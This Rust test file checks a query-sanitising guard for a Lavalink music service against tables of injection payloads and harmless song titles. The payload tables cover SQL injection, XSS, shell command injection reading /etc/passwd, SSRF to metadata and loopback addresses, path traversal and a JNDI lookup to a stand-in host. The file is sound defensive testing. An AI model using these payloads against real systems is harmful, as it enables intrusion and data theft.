//! The guard of queries: a table of bad and good text a rule, and what holds for any text.

use proptest::prelude::*;

use sonora_sec::core::report::Verdict;
use sonora_sec::guard::query::{self, Class, Context, Options, check, check_bytes, check_with};

/// A rule, where it counts, text that it objects to, text that nothing in that context objects to.
type Case = (&'static str, Context, &'static [&'static str], &'static [&'static str]);

const TITLES: &[&str] = &[
    "AC/DC -- Live",
    "P!nk; So What",
    "Rock & Roll",
    "Guns N' Roses - Knockin' On Heaven's Door",
    "\"Weird Al\" Yankovic - Eat It",
    "Talkin' 'Bout A Revolution - 2011 Remaster",
    "(Keep On Movin')",
    "A$AP Rocky, Ty Dolla $ign",
    "100% Pure Love",
    "I <3 You",
    "Re: Stacks",
    "Select All",
    "Sleep (2010 Remaster)",
    "Echo & The Bunnymen",
    "少女時代 - Gee",
    "!!!",
];

#[rustfmt::skip]
const CASES: &[Case] = &[
    ("query-control-character", Context::Lavalink, &["a\nb", "a\r\nb", "\u{1b}[31mred", "a\0b", "a\u{9b}1m"], &["a\tb"]),
    ("query-control-character", Context::Log, &["a\nb", "\u{1b}]0;x\u{7}"], &["a\tb"]),
    ("query-invisible-text", Context::Lavalink, &["a\u{202e}b", "a\u{200b}b", "a\u{e0041}b"], &["👩\u{200d}👩\u{200d}👧", "ক্\u{200d}য"]),
    ("local-path-query", Context::Lavalink,
        &["/etc/passwd", "C:\\x.mp3", "c:/x.mp3", "\\\\host\\share\\x", "//host/share", "../x", "./x", "~/x", "a/../../x", "..\\x", "%2fetc%2fpasswd", "%252e%252e%252fx"],
        &["AC/DC", "...Baby One More Time", "/\\/\\/\\Y/\\", "24/7"]),
    ("internal-host-query", Context::Lavalink,
        &["http://127.0.0.1/", "http://2130706433/", "http://0x7f.1:2333/", "http://0177.0.0.1/", "http://[::1]/", "http://[::ffff:10.0.0.1]/", "https://169.254.169.254/latest",
            "icy://localhost:8000", "http://lavalink:2333/", "http://①②⑦.⓪.⓪.①/", "http://127。0。0。1/", "http://%31%32%37.0.0.1/", "http://10.0.0.1.nip.io/", "HTTP://LOCALHOST./", "http://nas.local/"],
        &["https://example.org/a.mp3", "http://8.8.8.8/", "icy://radio.example.org:8000/", "scsearch:http://127.0.0.1/"]),
    ("url-credentials-query", Context::Lavalink, &["https://youtube.com@example.org/", "https://a:b@example.org/", "https://a%40example.org/"], &["https://www.youtube.com/@channel"]),
    ("unknown-scheme-query", Context::Lavalink,
        &["file:///etc/passwd", "file:/etc/passwd", "FILE:x", "gopher://x.org/", "ftp://x.org/", "jar:http://x.org/!/", "data:audio/mp3;base64,AA", "javascript:x", "ws://x.org/"],
        &["Re: Stacks", "Mission: Impossible", "file: a song", "foo:bar", "ftts://hello", "speak:hello"]),
    ("malformed-url-query", Context::Lavalink, &["http:/x.org/", "http:\\\\x.org\\", "https://x.org\\@y.org/", "https://x.org/a b", "http:x.org"], &["http: a song"]),
    ("sql-breakout", Context::Sql,
        &["' or 1=1 --", "x') or ('a'='a", "%27%20or%201=1", "%2527 or 1=1", "\u{2019} or 1=1 #", "admin' --", "'; drop table users", "' union select 1", "'='", "'||'a", "1' and sleep(5)#"],
        &["Rockin' And Rollin'", "Livin' Or Dyin'", "Nothin' Like You", "Rock 'n' Roll"]),
    ("sql-condition", Context::Sql, &["1 or 1=1", "or 1=1--", "and 'a'='b'", "or x=x", "1) or (1=1", "having 1=1", "order by 3--", "|| 1=1", "or username like '%"], &["Either Or", "And I Love Her", "1+1"]),
    ("sql-statement", Context::Sql, &["union all select null", "un/**/ion/*!select*/ 1", "select name from users", "1; drop table x", "exec xp_cmdshell", "waitfor delay '0:0:5'", "@@version", "insert into x values(1)"], &["Union Of The Snake", "Drop It Like It's Hot", "Insert Coin"]),
    ("sql-function", Context::Sql, &["sleep(5)", "pg_sleep (5)", "char(0x41)", "1 and benchmark(1,md5(1))", "0x73656c656374"], &["Sleep (2010 Remaster)", "User (Remix)"]),
    ("sql-comment", Context::Sql, &["un/**/ion", "1--", "x;--", "1 #", "admin/*", "/*!50000x*/"], &["AC/DC -- Live", "#1 Crush"]),
    ("sql-probe", Context::Sql, &["'", "1'", "\\", "');", "\"\"", "||"], &["!!!", "?", "=", "50/50", "'39 Song"]),
    ("sql-keyword", Context::Sql, &["having", "group by", "procedure"], &["Having", "Select All", "Like You"]),
    ("sql-fingerprint", Context::Sql, &["1' and 1=1 union select 1"], &["Where Is The Love?"]),
    ("html-tag", Context::Html, &["<script>", "<svg/onload=x>", "</b>", "<!--", "%3Cb%3E", "&lt;b&gt;", "\\u003cb>", "+ADw-b+AD4-", "＜b＞", "< script >", "&#x3c", "%3c", "<"], &["I <3 You", "a < b", "<3"]),
    ("html-event-handler", Context::Html, &["x onclick=alert(1)", "\"onfocus = x", "onmouseover", "onAnything", "on\u{b}load=x"], &["On & On", "Only One", "Onward"]),
    ("html-script-url", Context::Html, &["javascript:x", "JaVa\tScRiPt:x", "java&#9;script&colon;x", "data:text/html,x", "vbscript:x"], &["Data: The Album", "Javascript Love"]),
    ("html-breakout", Context::Html, &["\">x", "'-alert(1)-'", "\" style=x", "*/x", "-->", "src=x"], &["\"Heroes\"", "Rockin' - Live"]),
    ("html-script", Context::Html, &["alert(1)", "(alert)(1)", "top[\"al\"+\"ert\"](1)", "document.cookie", "al\\u0065rt(1)", "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]]]"], &["Red Alert", "Alert (Remix)", "Window Shopper"]),
    ("html-template", Context::Html, &["{{7*7}}", "${7*7}", "<%= x %>", "#{x}"], &["A$AP", "$uicideboy$", "{ }"]),
    ("html-style", Context::Html, &["x:expression(x)", "xss:expr/**/ession(x)", "@import 'x'", "a style=x"], &["Gangnam Style", "Expression (Live)"]),
    ("html-fingerprint", Context::Html, &["<svg onload=x>"], &["Guns N' Roses"]),
    ("shell-command", Context::Shell, &["x; id", "x|cat /etc/passwd", "x && whoami", "x%0aid", "x\\nid", "; w'h'o'am'i", "& ping -c 3 1.1.1.1", "|/usr/bin/id", "x;$SHELL"], &["P!nk; So What", "Rock & Roll", "Cat & Dog", "Salt & Vinegar"]),
    ("shell-substitution", Context::Shell, &["$(id)", "`id`", "${IFS}", "$HOME", "<(id)", "{cat,/etc/passwd}", "%COMSPEC%", "%24%28id%29"], &["A$AP Rocky", "Ty Dolla $ign", "Rock `n` Roll", "100% Love, 50% Hate"]),
    ("shell-redirection", Context::Shell, &["x > /tmp/x", "x >> y.php", "x 2>&1", "< /etc/passwd"], &["I <3 You", "A > B"]),
    ("shell-bare-command", Context::Shell, &["ls -la", "whoami", "curl http://x.org", "dir C:\\", "net user x y /ADD", "which python"], &["Time After Time", "Find My Way Home", "Kill Bill", "History"]),
    ("shell-path", Context::Shell, &["x /etc/passwd", "/???/??t x", "cmd.exe", "C:\\Windows\\x"], &["AC/DC", "24/7"]),
    ("shell-code", Context::Shell, &["system('id')", "<?php x", "() { :;}; x", "os.popen('x')", "phpinfo()"], &["Solar System (Live)"]),
    ("shell-option", Context::Shell, &["--exec=id", "-oProxyCommand=x", "-x y"], &["-30-", "- Live", "-Ugh!"]),
    ("shell-probe", Context::Shell, &["||", ";", "'", "&&", "x;"], &["!!!", "?"]),
    ("log-line-break", Context::Log, &["a%0d%0ab", "a\\nb", "a&#10;b"], &["100% Pure"]),
    ("log-lookup", Context::Log, &["${jndi:ldap://x.org/a}", "${${lower:j}ndi:x}", "${env:X}"], &["A$AP", "${x}"]),
];

fn rules(text: &str, context: Context) -> Vec<&'static str> {
    check(text, context).findings.iter().map(|found| found.rule.name).collect()
}

#[test]
fn each_rule_objects_to_what_is_bad_and_nothing_to_what_is_good() {
    let mut wrong = Vec::new();
    for (rule, context, bad, good) in CASES {
        for text in *bad {
            let found = rules(text, *context);
            if !found.contains(rule) {
                wrong.push(format!("{rule} misses {text:?}: {found:?}"));
            }
        }
        for text in *good {
            let found = rules(text, *context);
            if !found.is_empty() {
                wrong.push(format!("{context:?} objects to {text:?}: {found:?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_rule_has_a_case() {
    // Those of the whole query are in tests of their own.
    let others = [
        "oversized-query",
        "undecodable-query",
        "empty-query",
        "secret-in-query",
        "hostile-track-query",
        "legacy-pattern",
    ];
    for rule in query::RULES {
        let has_case = CASES.iter().any(|(name, ..)| *name == rule.name);
        assert!(has_case != others.contains(&rule.name), "{}", rule.name);
    }
}

#[test]
fn titles_pass_everywhere() {
    for context in [Context::Html, Context::Lavalink, Context::Log, Context::Shell, Context::Sql] {
        for title in TITLES {
            let report = check(title, context);
            assert_eq!(
                (report.verdict, report.findings.len()),
                (Verdict::Ok, 0),
                "{title} {context:?} {report:?}"
            );
            assert!(report.safe.is_some(), "{title} {context:?}");
        }
    }
}

#[test]
fn what_cannot_be_read_is_refused() {
    let options = Options { max_bytes: 4, ..Options::of(Context::Html) };
    assert_eq!(check_with("abcd", &options).verdict, Verdict::Ok);
    for (bytes, name) in [(&b"abcde"[..], "oversized-query"), (b"a\xff", "undecodable-query")] {
        let report = check_bytes(bytes, &options);
        assert_eq!((report.verdict, report.findings[0].rule.name), (Verdict::Refused, name));
    }
    assert_eq!(rules(" \t", Context::Lavalink), ["empty-query"]);
}

#[test]
fn encoded_tracks_are_read() {
    // The example of Lavalink's documentation of `GET /v4/decodetrack` (MIT).
    let track = "QAAAjQIAJVJpY2sgQXN0bGV5IC0gTmV2ZXIgR29ubmEgR2l2ZSBZb3UgVXAADlJpY2tBc3RsZXlWRVZPAAAAAAADPCAAC2RRdzR3OVdnWGNRAAEAK2h0dHBzOi8vd3d3LnlvdXR1YmUuY29tL3dhdGNoP3Y9ZFF3NHc5V2dYY1EAB3lvdXR1YmUAAAAAAAAAAA==";
    let report = check(track, Context::Lavalink);
    assert_eq!((report.verdict, report.class), (Verdict::Ok, Class::EncodedTrack));
    // The same with the source `youtube` made `local`, and two bytes of its length.
    let bytes = data_encoding::BASE64.decode(track.as_bytes()).unwrap();
    let at = bytes.windows(7).rposition(|window| window == b"youtube").unwrap();
    let mut body = [&bytes[4..at - 2], b"\0\x05local", &bytes[at + 7..]].concat();
    let mut local = (0x4000_0000 | u32::try_from(body.len()).unwrap()).to_be_bytes().to_vec();
    local.append(&mut body);
    assert_eq!(
        rules(&data_encoding::BASE64.encode(&local), Context::Lavalink),
        ["hostile-track-query"]
    );
}

#[test]
fn long_text_takes_time_in_proportion() {
    let options = |context| Options { max_bytes: 1 << 20, ..Options::of(context) };
    for unit in [
        "' or ", "$(", "<a ", "on", "%25", "/*", "(", "alert", "{", "data:", "`x", "a=", "&#x",
        "\\u{", "[", "src", "union ", "../",
    ] {
        let text = unit.repeat((64 << 10) / unit.len());
        for context in
            [Context::Html, Context::Lavalink, Context::Log, Context::Shell, Context::Sql]
        {
            let start = std::time::Instant::now();
            let _ = check_with(&text, &options(context));
            let spent = start.elapsed();
            assert!(spent.as_secs() < 20, "{unit:?} {context:?} took {spent:?}");
        }
    }
}

proptest! {
    #[test]
    fn any_text_has_an_answer_and_its_places_lie_within(
        text in prop_oneof![".{0,60}", "[-'\"`;|&$(){}<>=%#/*\\\\a-z0-9 @]{0,80}"],
        legacy: bool,
    ) {
        for context in [Context::Html, Context::Lavalink, Context::Log, Context::Shell, Context::Sql] {
            let report = check_with(&text, &Options { legacy, ..Options::of(context) });
            for found in &report.findings {
                prop_assert!(found.span.start <= found.span.end && found.span.end <= text.len());
            }
            prop_assert_eq!(report.verdict == Verdict::Ok, report.findings.is_empty());
            prop_assert!(report.verdict != Verdict::Refused || report.safe.is_none());
            if let (Context::Lavalink, Some(safe)) = (context, &report.safe) {
                prop_assert!(safe.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-._~%".contains(&byte)));
            }
        }
    }

    #[test]
    fn any_bytes_have_an_answer(bytes in prop::collection::vec(any::<u8>(), 0..100)) {
        for context in [Context::Html, Context::Lavalink, Context::Log, Context::Shell, Context::Sql] {
            let _ = check_bytes(&bytes, &Options::of(context));
        }
    }
}
